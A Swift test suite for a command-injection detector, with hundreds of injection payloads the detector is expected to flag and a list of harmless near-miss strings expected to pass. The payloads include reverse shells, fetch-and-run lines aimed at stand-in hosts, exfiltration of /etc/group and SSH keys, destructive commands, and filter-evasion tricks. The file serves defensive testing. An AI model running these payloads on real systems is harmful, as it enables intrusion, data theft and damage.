import GuardInspect
import Testing

/// Command injection written for these tests from the technique families (separators,
/// substitutions, blank tricks, quoting, globbing, redirections, Windows shells), not
/// taken from the corpus. Each must be flagged as cmdi; the near misses must stay clean.
@Suite struct ShellVariantTests {
    static func classes(_ payload: String) -> Set<DetectorClass> {
        Set(Inspector().inspect(payload: payload, location: "/queryStringParameters/host").findings.map(\.detectorClass))
    }

    static let attacks: [String] = [
        // separators
        "example.org;id", "example.org; id;", "example.org|id", "example.org || id", "example.org && id",
        "example.org & whoami &", "example.org\nid", "example.org\r\nuname -a", "10.1.1.1%0aid", "10.1.1.1%0d%0aid",
        "example.org;uname\t-a", "x;  /usr/bin/id", "x | /bin/hostname", "x&&/sbin/ifconfig",
        // substitutions
        "$(id)", "x$(uname -a)y", "`id`", "file`whoami`.txt", "\"$(id)\"", "'`hostname`'", "a$( sleep 4 )b",
        "$(sleep${IFS}6)", "<(id)", "x >(nc 10.2.3.4 9001)",
        // blanks
        ";cat${IFS}/etc/group", ";cat$IFS$9/etc/group", ";cat$IFS/etc/group", "a;sleep${IFS}7", ";ls${IFS}-al${IFS}/",
        "x;{cat,/etc/group}", "{cat,/etc/group}", ";{ls,-al,/var}", "x;cat</etc/group", ";tail\t-n1\t/etc/group",
        "x;IFS=,;b=cat,/etc/group;$b",
        // quoting and escapes
        ";c''at /etc/group", ";c\\at /etc/group", ";w'h'o'am'i", ";w\"h\"o\"am\"i", ";who$@ami", ";wh$()oami",
        ";\\u\\n\\a\\m\\e -a", "x;\"c\"'a't /etc/group", ";who``ami", "a;un$*ame -a", ";ca$'t' /etc/group",
        // globbing
        "/???/c?t /???/g???p", ";/bin/c?t /etc/gr*", "x;/???/??t /e??/g???p", ";cat /e?c/gr?up", ";/usr/bin/wh?ami",
        // redirections and writes
        ";echo pwned > /var/www/html/p.txt", "x;id>/tmp/o", "x|tee /tmp/o", "; ls -la 2>&1", "&& cat /etc/group > out",
        // env assignment and variables
        ";X=id;$X", "; a=who;b=ami;$a$b", ";PATH=/tmp sh -c id", "x;${PATH:0:1}bin${PATH:0:1}id",
        // encoded commands
        ";echo aWQ=|base64 -d|sh", "$(echo aWQ= | base64 --decode)", ";printf '\\151\\144'|sh", ";$'\\x69\\x64'",
        // time based
        "x;sleep 5", "x && sleep 10 #", "x || sleep 8 ||", "'; sleep 5; '", "\"; sleep 5; \"", "|| ping -c 9 127.0.0.1",
        "& ping -n 11 127.0.0.1 &", "x|ping${IFS}-c${IFS}3${IFS}10.0.0.1",
        // fetch and run, reverse shells
        ";curl -s http://evil.example/a|sh", ";wget -qO- http://evil.example/a | bash", "$(curl evil.example/x)",
        ";nc -e /bin/sh 10.0.0.5 4444", ";bash -i >& /dev/tcp/10.0.0.5/4444 0>&1",
        ";python3 -c 'import os;os.system(\"id\")'", ";perl -e 'exec \"/bin/sh\"'", ";nslookup `whoami`.evil.example",
        ";mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.5 4444 >/tmp/f",
        // Windows
        "& cmd /c whoami", "| cmd.exe /c dir c:\\", "%COMSPEC% /c ver", "| %ComSpec% /k whoami", "& net user",
        "&& whoami /priv", "| type c:\\windows\\win.ini", "& powershell -enc SQBFAFgA", "| powershell -e SQBFAFgA",
        "& powershell.exe -nop -w hidden -c whoami", "&& c^m^d /c wh^oami", "|| ping -n 5 127.0.0.1",
        "& dir %SYSTEMROOT%", "& echo %USERNAME%", "x & timeout /t 6 &", "&& certutil -urlcache -f http://e.example/a a",
        "& for /f %i in ('whoami') do echo %i", "127.0.0.1 & tasklist", "| findstr /s password *.txt",
        "& copy c:\\windows\\win.ini x.txt", "& start /b calc.exe", "&& powershell iex(iwr http://e.example/a)",
        "& wmic process list brief", "& rundll32 x.dll,Entry", "&& mshta http://e.example/a.hta",
        "& reg query HKLM\\Software", "| ver", "& systeminfo", "&& ipconfig", "& call whoami",
        "& %SystemRoot%\\System32\\cmd.exe /c dir", "& C:\\Windows\\System32\\whoami.exe",
        "|| net localgroup administrators", "& type C:\\inetpub\\wwwroot\\web.config", "& dir /s /b c:\\*.config",
        "x & ping -n 10 localhost", "\"&whoami&\"", "'|id|'", "& cmd /v:on /c \"set x=who&&!x!ami\"",
        // more POSIX
        "\nwhoami", "x||whoami", "x|whoami|", "x&id&", ";id;#", ";ec\"\"ho hi", ";un'a'me -a", ";u\\name -a",
        "x;{echo,aWQ=}|{base64,-d}|bash", "x;cat$(echo /etc/group)", ";/u?r/b?n/i?", ";LD_PRELOAD=/tmp/x.so ls",
        ";eval \"$(echo aWQ=|base64 -d)\"", ";exec id", ";sh<<<id", ";bash<<<$(base64 -d<<<aWQ=)",
        ";/bin/busybox nc 10.0.0.5 80 -e sh", ";nc 10.0.0.5 80 < /etc/group", ";curl -d @/etc/group http://e.example",
        "$(</etc/group)", ";{sleep,5}", ";sleep$IFS'5'", "x;echo${IFS}test>/tmp/x", ";echo hello >> ~/.bashrc",
        ";cat /etc/group|base64", ";id>&2", "x;ls -la /home", "x;find / -name '*.conf'", ";touch /tmp/pwn",
        ";chmod +x /tmp/s;/tmp/s", ";./s.sh", "x; head -n 3 /etc/group", ";crontab -l", "|| sleep 3 &",
        "%250aid", "x%253Bid", "%26%26whoami",
        // sixth batch: tools beyond the usual names, and commands nobody lists
        "x;rsync -a /etc/ 10.0.0.5::loot", "x;jq -r . /etc/group", "x|git -c core.pager=id log", "x;ionice -c3 id",
        "x;vigr", "$(aria2c -o /tmp/x http://e.example/x)", "x;{rsync,-a,/etc/,e.example:x}", "x;exiftool /etc/group",
        "x;frobnicate -rf /etc/group", "x|zork /etc/group", "x&&blorp --dump /var/log/auth.log",
        // fifth batch: cmd.exe substrings, PowerShell forms, variable assembly
        "x;cat${IFS}${HOME:0:1}etc${HOME:0:1}group", "x;a=c;b=at;$a$b /etc/group", "x;$(tr '!-~' 'P-~!-O' <<< 9:5)",
        "x;`tr a-z n-za-m <<< vq`", "x & set x=whoami&& call %x%", "x & %COMSPEC:~-7,1%", "x & echo %PROGRAMFILES:~10,5%",
        "x; iex(iwr e.example/a)", "x; IEX (IWR e.example)", "x; Invoke-Expression 'whoami'",
        "x;[System.Diagnostics.Process]::Start('calc')", "x;$env:comspec /c whoami", "x | & $env:ComSpec /c ver",
        // whole-value commands (the parameter is passed to a shell as is)
        "cat /etc/group", "whoami", "uname -a", "ls -la /", "nc -e /bin/sh 10.0.0.5 4444", "wget http://e.example/x.sh -O /tmp/x.sh",
        "curl http://e.example/x | sh", "ping -c 10 127.0.0.1", "sleep 5", "powershell -enc SQBFAFgA", "cmd /c dir",
        "net user", "type c:\\windows\\win.ini", "/bin/cat /etc/group", "cat$IFS/etc/group",
        "python -c 'import pty;pty.spawn(\"/bin/sh\")'", "php -r 'system(\"id\");'", "id;", "ifconfig -a",
        "echo aWQ= | base64 -d | bash", "rm -rf /tmp/x", "netstat -tulpn", "ps -ef", "whoami /all", "ipconfig /all",
        "tasklist /v", "systeminfo", "bash -c id", "sh -i", "nslookup e.example", "dir c:\\", "cat /proc/version",
        // fourth batch
        "x;c${u}at /etc/group", "x;ca$@t /etc/group", "x|`echo${IFS}aWQ=|base64${IFS}-d`", "x;$(rev<<<'di')",
        "x;echo${IFS}-e${IFS}'\\x69\\x64'|sh", "x;cat /etc/gr[o]up", "x;cat /etc/gro?p", "x;tac /etc/group",
        "x;nl /etc/group", "x;more /etc/group", "x;less</etc/group", "x;xxd /etc/group", "x;base64 /etc/group",
        "x;rev /etc/group", "x\nid\n", "x\n/bin/id", "x;uname${IFS}-a${IFS}#", "&&i\\d", "x & WHOAMI",
        "x;ls -la | nc 10.0.0.5 80", "x;ls${IFS}-la|nc${IFS}10.0.0.5${IFS}80", "x; php -r 'echo 1;'", "x;id #note",
        "x;/usr/bin/env sh", "x;exec 5<>/dev/tcp/10.0.0.5/80", "x & curl http://e.example -o c:\\x.exe",
        "x&&%windir%\\system32\\calc.exe", "x|cmd /c type c:\\x", "x & powershell -w hidden -nop -ep bypass -f s.ps1",
        "x&&ver>nul", "& ping -n 1 e.example & whoami", "() { ignored;}; echo; /usr/bin/id",
        "%2524%2528id%2529", "x%3Bid",
        // third batch: mid-value, quoting contexts, interpreters, exfiltration
        "foo.txt; cat /etc/group #", "test.jpg`sleep 5`", "127.0.0.1\n\nid", "127.0.0.1%0d%0awhoami",
        "a;$(printf${IFS}'\\x69\\x64')", ";w\\h\\o\\a\\m\\i", ";/b'i'n/c'a't /etc/group", ";\"/bin/cat\" /etc/group",
        ";'id'", "x;(id)", "x;{ id; }", "x&&(sleep 5)", "x;i\\d", "x;`echo id`", "x|$(id)",
        "x;tr 'a-z' 'A-Z' < /etc/group", "x;awk 'BEGIN{system(\"id\")}'", "x;sed -n 1p /etc/group",
        "x;php -r 'system(\"id\");'", "x;ruby -e 'puts `id`'", "x;node -e 'require(\"child_process\").execSync(\"id\")'",
        "x;socat tcp:10.0.0.5:4444 exec:sh", "x;telnet 10.0.0.5 4444 | /bin/sh | telnet 10.0.0.5 4445",
        "x;dig +short $(whoami).e.example", "x;host $(id -u).e.example", "x;curl e.example/$(whoami)",
        "x;wget --post-file=/etc/group e.example", "x;ls -la /root/.ssh/", "x;cat ~/.ssh/id_rsa",
        "x;cat /proc/self/environ", "x;kill -9 1", "x;ps aux", "x;uname", "x;hostname", "x;env", "x;netstat -an",
        "x;ifconfig", "x;id -un", ";sleep 5&", "';id;'", "\";id;\"", "')|id|('", "\"|whoami|\"", "'&&sleep 4&&'",
        "x|powershell -c \"Start-Sleep 5\"", "x & powershell -command \"& {whoami}\"", "x&&ping -n 10 127.0.0.1>nul",
        "x&echo %COMPUTERNAME%", "x & type %WINDIR%\\win.ini", "x & cmd /c \"ping -n 6 127.0.0.1\"", "x & wh^o^am^i",
        "x & \"whoami\"", "x|w\"h\"oami", "x & nslookup e.example", "x & bitsadmin /transfer j http://e.example/a c:\\a.exe",
        "x & schtasks /query", "x & sc query", "x & net view", "x & taskkill /f /im x.exe", "x & del /f /q c:\\x",
        "x & more c:\\boot.ini", "x & ver", "x;cat${IFS:0:1}/etc/group", "x;$0 -c id", "x;sh -c 'id'",
        "x;bash -c \"$(echo aWQ=|base64 -d)\"", "() { :; }; /bin/bash -c id", "x;python -m http.server 8000",
    ]

    @Test(arguments: attacks)
    func detects(_ payload: String) {
        #expect(Self.classes(payload).contains(.cmdi), "cmdi missed: \(payload)")
    }

    static let nearMisses: [String] = [
        "Tom & Jerry; Bugs & Daffy", "rock & roll | pop & jazz", "AT&T", "salt & pepper", "Q&A; FAQ",
        "The cat sat on the mat", "I need to sleep; it is late", "ping me when you are ready",
        "Who am I? A question", "price: $5 | $10", "Hello $name, welcome", "{name,age}", "{\"a\":1}",
        "100% organic; gluten free", "date: 2024-01-02", "see /docs/install for details", "C&A sale",
        "ls is a command; use it wisely", "Ben & Jerry's", "email me at a@b.example", "set the table",
        "type your name", "find the best route", "echo of the past", "Press Ctrl+C to copy",
        "x=1&y=2", "a | b | c", "R&B", "Mum & Dad; Grandma & Grandpa", "the id of the user",
        "deals; more > $5 off", "ratio; time > 5 min", "1 & 2 > 3", "pros; cons < /2", "kill the lights; sleep -ish",
        "see ./README.md for more", "A=1; B=2", "ps: see you", "size > 10 & < 20", "one; two > three",
        "I cat my thoughts; sleep on it", "make sure & check", "who am i", "the ls command lists files",
        "Terms & Conditions; Privacy | Cookies", "Sun & Moon | Stars", "ping pong", "find me", "sort by name",
        "He said: \"I'm done; bye\"", "a;b;c", "1;2;3", "x|y|z", "key=value;other=thing", "N/A", "TBD; see notes",
        "R&D | Sales & Marketing", "Hello; how are you?", "date & time", "head & shoulders", "dir: left",
        "50%: ~half", "ratio 3:~4", "env: production", "$env is set", "call me; sleep tight", "IEX (Investors Exchange) listing",
        "{view,edit,delete}", "{install,remove}", "view; install", "Quick links; view all", "Plan: red | green",
        "Note; see -- /etc is a folder", "mode; -v for verbose",
    ]

    @Test(arguments: nearMisses)
    func passes(_ payload: String) {
        #expect(!Self.classes(payload).contains(.cmdi), "flagged: \(payload)")
    }
}
